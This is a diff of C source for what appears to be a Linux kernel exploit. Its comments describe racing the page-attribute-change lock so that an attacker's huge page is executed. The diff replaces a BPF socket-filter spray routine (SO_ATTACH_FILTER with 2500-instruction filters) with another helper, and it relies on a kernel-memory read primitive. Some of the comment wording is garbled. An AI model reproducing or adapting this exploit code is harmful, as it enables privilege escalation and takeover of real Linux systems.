@@ -4,10 +4,7 @@
  * pages these are is read again and again from a stack, and for each it waits for a lock,
  * which is made to look held. So a huge page of the attacker's is run instead.
  */
-#include <linux/filter.h>
 #include <string.h>
-#include <sys/mman.h>
-#include <sys/socket.h>
 #include <unistd.h>
 
 #include "answer.h"
@@ -18,11 +15,9 @@
 #include "objects.h"
 
 #ifdef __x86_64__
-#define ROOM		0x5e
 #define PACKS		"pack_list"
 #define PACK_PAGES	512
 #define LIST_LAST	8
-#define INSTRUCTIONS	2500	/* five bytes each */
 #define FILTERS		200	/* more than a pack has room for */
 #define LOCK		"cpa_lock"
 #define LOOP		"__change_page_attr_set_clr"
@@ -40,18 +35,6 @@ static struct {
 	bool is_other;		/* it waited, and was not about to have anything run */
 } text;
 
-static void attach_filter(void)
-{
-	static struct sock_filter code[INSTRUCTIONS];
-	struct sock_fprog filter = { .len = INSTRUCTIONS, .filter = code };
-	int i, fd = socket(AF_UNIX, SOCK_DGRAM, 0);
-
-	for (i = 0; i < INSTRUCTIONS; i++)
-		code[i] = (struct sock_filter) { BPF_LD | BPF_IMM, 0, 0, i + 1 };
-	code[i - 1] = (struct sock_filter) { BPF_RET | BPF_K, 0, 0, 7 };
-	setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &filter, sizeof(filter));
-}
-
 /* They stay. */
 static void need_pack(void)
 {
@@ -59,7 +42,7 @@ static void need_pack(void)
 	int i;
 
 	for (i = 0; i < FILTERS && kread64(text.packs + LIST_LAST) == last; i++)
-		attach_filter();
+		held_long_filter();
 }
 
 static bool is_cpa(const uint64_t *words)
